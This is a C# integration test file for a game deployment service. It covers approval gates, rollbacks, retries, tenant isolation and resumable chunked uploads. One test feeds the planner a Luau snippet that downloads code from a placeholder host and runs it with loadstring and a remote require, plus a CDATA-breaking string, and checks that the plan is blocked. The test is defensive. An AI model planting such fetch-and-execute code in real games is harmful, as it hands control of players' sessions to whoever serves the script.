using System.Net.ServerSentEvents;
using System.Text.Json.Nodes;

namespace ToolboxAI.Tests.Deployments;

/// <summary>Plans, deployments and rollbacks over HTTP, on the running application.</summary>
[Collection("deployment application")]
public sealed class DeploymentHttpTests(DeploymentApplication application)
{
    private const string Deployments = "/api/v1/deployments";
    private const string Foreign = "tbx_local_other_key";

    private static CancellationToken Ct => TestContext.Current.CancellationToken;

    [Fact]
    public async Task A_release_waits_for_another_key_s_approval_and_its_progress_is_streamed()
    {
        var studio = await application.Studio("approved", approval: "required");
        var plan = await application.Plan(studio.Release(1));
        Assert.Equal(("1.0.0", 2), ((string?)plan["version"], (int)plan["cost"]!["uploads"]!.AsObject().Sum(upload => (int)upload.Value!)));
        Assert.Equal(["create"], plan["changes"]!.AsArray().Select(change => (string?)change!["action"]).Distinct());
        Assert.Equal(40, plan["restart"]!.AsArray().Sum(place => (int)place!["players"]!));
        Assert.Contains(plan["cannotBeUndone"]!.AsArray(), line => ((string)line!).Contains("first version", StringComparison.Ordinal));

        var id = (string)(await application.Call(HttpMethod.Post, Deployments, new { planHash = (string?)plan["planHash"] }))!["id"]!;
        var approve = $"{Deployments}/{id}/approve";
        await application.Refused(HttpMethod.Post, approve, null, 409, "not_awaited", DeploymentApplication.Approver);
        await application.Refused(HttpMethod.Post, Deployments, new { planHash = (string?)plan["planHash"] }, 409, "experience_busy");
        await application.UntilStatus(id, "awaitingApproval");
        await application.Refused(HttpMethod.Post, approve, null, 403, "scope_missing");
        var streamed = Stream(id);
        await application.Call(HttpMethod.Post, approve, key: DeploymentApplication.Approver);
        var done = await application.UntilStatus(id, "succeeded");

        Assert.Equal("key_development_approver", (string?)done["approvedBy"]);
        var events = await streamed.WaitAsync(TimeSpan.FromMinutes(2), Ct);
        Assert.Equal(events.Select(sent => sent.Id).Order(), events.Select(sent => sent.Id));
        Assert.Equal("awaitingApproval", (string?)events[0].Body["status"]);
        Assert.Equal("succeeded", (string?)events[^1].Body["status"]);
        Assert.Equal(done["timeline"]!.ToJsonString(), events[^1].Body["timeline"]!.ToJsonString());
        Assert.Empty(await Stream(id, events[^1].Id));                    // who has seen the last is told nothing again
    }

    [Fact]
    public async Task A_deployment_that_nobody_approves_in_time_is_rejected_and_production_untouched()
    {
        var studio = await application.Studio("deadline", approval: "required");
        var late = await application.Deploy(studio.Release(1));
        await application.UntilStatus(late, "awaitingApproval");
        await application.Advance("PT1H");
        var rejected = await application.UntilStatus(late, "rejected");
        Assert.Equal("Nobody approved in time.", (string?)rejected["reason"]);

        var unwanted = await application.Deploy(studio.Release(2));
        await application.UntilStatus(unwanted, "awaitingApproval");
        await application.Call(HttpMethod.Post, $"{Deployments}/{unwanted}/reject", key: DeploymentApplication.Approver);
        await application.UntilStatus(unwanted, "rejected");
        Assert.All((await application.Players(studio.Production))["places"]!.AsArray(), place => Assert.Single(place!["versions"]!.AsArray()));
        await application.Refused(HttpMethod.Post, $"{Deployments}/{unwanted}/rollback", new { }, 409, "nothing_to_go_back_to");
        await application.Refused(HttpMethod.Post, $"{Deployments}/{unwanted}/rollback", new { to = "7.0.0" }, 404, "version_not_found");
        await application.Refused(HttpMethod.Post, $"{Deployments}/{unwanted}/retry", null, 409, "not_awaited");
    }

    [Fact]
    public async Task What_somebody_changes_in_Studio_is_noticed_at_the_plan_at_the_start_and_before_production_moves()
    {
        var studio = await application.Studio("studio");
        await application.UntilStatus(await application.Deploy(studio.Release(1)), "succeeded");

        var plan = await application.Plan(studio.Release(2));
        await application.EditInStudio(studio.Production, studio.Production + 1);
        await application.Refused(HttpMethod.Post, Deployments, new { planHash = (string?)plan["planHash"] }, 409, "plan_outdated");

        // The next plan sees it, says what is lost, and may overwrite it; the same release is no "unchanged" any more.
        var again = await application.Plan(studio.Release(1));
        Assert.Contains(again["cannotBeUndone"]!.AsArray(), line => ((string)line!).StartsWith("lobby was changed at Roblox", StringComparison.Ordinal));
        Assert.Equal("update", (string?)again["changes"]!.AsArray().Single(change => (string?)change!["name"] == "lobby")!["action"]);

        var guarded = studio with { Approval = "required" };
        var id = await application.Deploy(guarded.Release(3));
        await application.UntilStatus(id, "awaitingApproval");
        await application.EditInStudio(studio.Production, studio.Production + 2);
        await application.Call(HttpMethod.Post, $"{Deployments}/{id}/approve", key: DeploymentApplication.Approver);
        var stopped = await application.UntilStatus(id, "deadLettered");
        Assert.StartsWith("arena was changed at Roblox since the plan: it has version 3, the plan saw 2.", (string?)stopped["reason"], StringComparison.Ordinal);
        Assert.Equal("1.0.0", (string?)(await application.Live("studio"))["version"]);
    }

    [Fact]
    public async Task What_failed_is_dead_lettered_with_its_reason_and_goes_on_from_that_step_with_one_call()
    {
        var studio = await application.Studio("retried");
        await application.Fault($"POST /universes/v1/{studio.Staging}/places/{studio.Staging + 1}/versions", "status", value: 403);
        var id = await application.Deploy(studio.Release(1));
        var failed = await application.UntilStatus(id, "deadLettered");
        Assert.Equal("publishStaging", (string?)failed["stage"]);
        Assert.Contains("Roblox answered 403", (string?)failed["reason"], StringComparison.Ordinal);
        var uploads = (await application.Players(studio.Production))["assets"]!.AsArray().Count;

        await application.Call(HttpMethod.Post, $"{Deployments}/{id}/retry");
        var done = await application.UntilStatus(id, "succeeded");

        Assert.Equal((2, null), ((int)done["attempt"]!, (string?)done["reason"]));
        Assert.Equal(uploads, (await application.Players(studio.Production))["assets"]!.AsArray().Count);     // nothing was uploaded again
        Assert.Empty(studio.Differences(await application.Players(studio.Production), studio.Release(1)));
    }

    [Fact]
    public async Task A_bad_release_takes_itself_back_and_moderation_stops_one_before_production()
    {
        var studio = await application.Studio("bad");
        var good = studio.Release(1);
        await application.UntilStatus(await application.Deploy(good), "succeeded");

        var back = await application.UntilStatus(await application.Deploy(studio.Release(2, "simulate: crash")), "rolledBack");
        Assert.Contains("errors a minute", (string?)back["reason"], StringComparison.Ordinal);
        Assert.Empty(studio.Differences(await application.Players(studio.Production), good));

        var failing = await application.UntilStatus(await application.Deploy(studio.Release(3, "simulate: failing tests")), "deadLettered");
        Assert.Equal("test", (string?)failing["stage"]);
        await application.Refused(HttpMethod.Post, $"{Deployments}/{(string?)failing["id"]}/rollback", new { }, 409, "already_live");
        var refused = await application.UntilStatus(await application.Deploy(studio.Release(4, name: "Wave (rejected)")), "deadLettered");
        Assert.Contains("moderation rejected", (string?)refused["reason"], StringComparison.Ordinal);
        Assert.Empty(studio.Differences(await application.Players(studio.Production), good));
    }

    [Fact]
    public async Task A_rollback_goes_before_a_deployment_that_is_under_way()
    {
        var studio = await application.Studio("fenced");
        var good = studio.Release(1);
        await application.UntilStatus(await application.Deploy(good), "succeeded");
        var running = await application.Deploy(studio.Release(2));
        var rollback = await application.Call(HttpMethod.Post, $"{Deployments}/{running}/rollback");

        await application.UntilStatus((string)rollback!["id"]!, "succeeded");

        Assert.Equal("superseded", (string?)(await application.Deployment(running))["status"]);
        Assert.Empty(studio.Differences(await application.Players(studio.Production), good));
    }

    [Fact]
    public async Task What_is_not_there_is_not_found_and_what_is_another_tenant_s_is_not_there()
    {
        var studio = await application.Studio("private");
        var plan = await application.Plan(studio.Release(1));
        var id = (string)(await application.Call(HttpMethod.Post, Deployments, new { planHash = (string?)plan["planHash"] }))!["id"]!;
        foreach (var (name, key) in (IEnumerable<(string, string)>)[("dep_nothing", DeploymentApplication.Developer), (id, Foreign)])
        {
            await application.Refused(HttpMethod.Get, $"{Deployments}/{name}", null, 404, "deployment_not_found", key);
            await application.Refused(HttpMethod.Get, $"{Deployments}/{name}/events", null, 404, "deployment_not_found", key);
            await application.Refused(HttpMethod.Post, $"{Deployments}/{name}/retry", null, 404, "deployment_not_found", key);
            await application.Refused(HttpMethod.Post, $"{Deployments}/{name}/rollback", new { }, 404, "deployment_not_found", key);
        }

        await application.Refused(HttpMethod.Post, Deployments, new { planHash = (string?)plan["planHash"] }, 404, "plan_not_found", Foreign);
        await application.Refused(HttpMethod.Post, Deployments, new { planHash = "0" }, 404, "plan_not_found");
        await application.Refused(HttpMethod.Get, "/api/v1/experiences/private", null, 404, "deployment_not_found", Foreign);
        await application.Refused(HttpMethod.Post, $"{Deployments}/dep_nothing/reject", null, 404, "deployment_not_found", DeploymentApplication.Approver);
        await application.Refused(HttpMethod.Post, $"{Deployments}/dep_nothing/uploads", new { asset = "wave" }, 404, "deployment_not_found", DeploymentApplication.Approver);
        await application.Refused(HttpMethod.Post, $"{Deployments}/{id}/uploads", new { asset = "wave" }, 409, "not_awaited", DeploymentApplication.Approver);
        await application.Refused(HttpMethod.Post, $"{Deployments}/{id}/uploads", new { asset = "wave" }, 403, "scope_missing");
        await application.Refused(HttpMethod.Get, $"{Deployments}/{id}", null, 401, "key_missing", key: null);
        await application.Refused(HttpMethod.Post, $"{Deployments}/plan", new { manifest = "x", files = new { } }, 403, "scope_missing", DeploymentApplication.Approver);
        Assert.DoesNotContain(id, (await application.Call(HttpMethod.Get, Deployments, key: Foreign))!.ToJsonString(), StringComparison.Ordinal);
        var page = await application.Call(HttpMethod.Get, $"{Deployments}?experience=private&limit=1");
        Assert.Equal(id, (string?)Assert.Single(page!["items"]!.AsArray())!["id"]);
        await application.UntilStatus(id, "succeeded");
    }

    [Fact]
    public async Task A_plan_says_what_is_wrong_with_the_manifest_the_files_and_the_version()
    {
        var studio = await application.Studio("wrong");
        var release = studio.Release(1);
        var plan = $"{Deployments}/plan";
        await application.Refused(HttpMethod.Post, plan, new { manifest = "version: 2", files = new { } }, 422, "invalid_manifest");
        await application.Refused(HttpMethod.Post, plan, new { manifest = release.Manifest, files = new { } }, 422, "file_not_named");
        await application.Refused(HttpMethod.Post, plan, release.PlanRequest("production"), 422, "content_missing");
        await application.Refused(HttpMethod.Post, plan, release.PlanRequest("moon"), 422, "invalid_manifest");
        await application.Refused(HttpMethod.Post, plan, new { manifest = release.Manifest }, 400, "malformed_body");
        await application.UntilStatus(await application.Deploy(release), "succeeded");
        var early = JsonNode.Parse(System.Text.Json.JsonSerializer.Serialize(release.PlanRequest("production")))!;
        early["version"] = "1.0.0";
        await application.Refused(HttpMethod.Post, plan, early, 422, "invalid_version");

        var hidden = studio.Release(2, "]]><x/><![CDATA[");
        await application.Plan(hidden);
        var dangerous = studio.Release(3, "\nlocal f = loadstring(game:GetService(\"HttpService\"):GetAsync(\"https://example.com/x\"))\nf()\nlocal x = getfenv()[\"require\"](123456789)\n--");
        var blocked = await application.Plan(dangerous);
        Assert.NotEmpty(blocked["findings"]!.AsArray());
        Assert.NotEmpty(blocked["blocked"]!.AsArray());
        Assert.NotEmpty(blocked["capabilitiesWidened"]!.AsArray());
        await application.Refused(HttpMethod.Post, Deployments, new { planHash = (string?)blocked["planHash"] }, 422, "plan_blocked");

        // What was asked of Roblox for all these plans is forgotten.
        Assert.Empty((await application.Call(HttpMethod.Get, "/runtime/webhooks/durabletask/instances?instanceIdPrefix=facts_&code=tbx_local_master_key"))!.AsArray());
    }

    [Fact]
    public async Task An_upload_goes_on_after_a_break_and_damage_is_noticed_by_chunk_and_as_a_whole()
    {
        const int Chunk = 4 * 1024 * 1024;
        var content = new byte[Chunk + 1000];
        new Random(3).NextBytes(content);
        var (sha256, first, second) = (TestRelease.Hash(content), content[..Chunk], content[Chunk..]);
        var path = $"/api/v1/deployment-contents/{sha256}";
        Assert.Equal((false, Chunk), ((bool)(await application.Call(HttpMethod.Get, path))!["complete"]!, (int)(await application.Call(HttpMethod.Get, path))!["chunkBytes"]!));
        Assert.Equal(204, (int)(await application.PutChunk(sha256, 1, second, TestRelease.Hash(second))).StatusCode);
        Assert.Equal(422, (int)(await application.PutChunk(sha256, 0, first, TestRelease.Hash(second))).StatusCode);
        Assert.Equal([1], (await application.Call(HttpMethod.Get, path))!["chunks"]!.AsArray().Select(number => (int)number!));
        await application.Refused(HttpMethod.Post, path, new { chunks = 2 }, 422, "upload_damaged");
        await application.PutChunk(sha256, 1, second, TestRelease.Hash(second));
        await application.PutChunk(sha256, 0, second, TestRelease.Hash(second));
        await application.Refused(HttpMethod.Post, path, new { chunks = 2 }, 422, "upload_damaged");
        await application.PutChunk(sha256, 0, first, TestRelease.Hash(first));
        await application.PutChunk(sha256, 1, second, TestRelease.Hash(second));
        Assert.True((bool)(await application.Call(HttpMethod.Post, path, new { chunks = 2 }))!["complete"]!);
        Assert.True((bool)(await application.Call(HttpMethod.Get, path))!["complete"]!);
        Assert.False((bool)(await application.Call(HttpMethod.Get, path, key: Foreign))!["complete"]!);
        Assert.Equal(413, (int)(await application.PutChunk(sha256, 0, new byte[Chunk + 1], "")).StatusCode);
        await application.Refused(HttpMethod.Get, "/api/v1/deployment-contents/ABC", null, 400, "invalid_parameter");
        await application.Refused(HttpMethod.Post, path, new { chunks = 0 }, 400, "invalid_parameter");
    }

    /// <summary>The events of a deployment until its end, from after an event on.</summary>
    private async Task<List<(int Id, JsonNode Body)>> Stream(string id, int? after = null)
    {
        using var request = new HttpRequestMessage(HttpMethod.Get, $"{Deployments}/{id}/events");
        request.Headers.Add("X-Api-Key", DeploymentApplication.Approver);
        if (after is not null)
        {
            request.Headers.Add("Last-Event-ID", after.Value.ToString(System.Globalization.CultureInfo.InvariantCulture));
        }

        using var answer = await application.Http.SendAsync(request, HttpCompletionOption.ResponseHeadersRead, Ct);
        Assert.Equal("text/event-stream", answer.Content.Headers.ContentType?.MediaType);
        var events = new List<(int, JsonNode)>();
        await foreach (var sent in SseParser.Create(await answer.Content.ReadAsStreamAsync(Ct)).EnumerateAsync(Ct))
        {
            events.Add((int.Parse(sent.EventId!, System.Globalization.CultureInfo.InvariantCulture), JsonNode.Parse(sent.Data)!));
        }

        return events;
    }
}
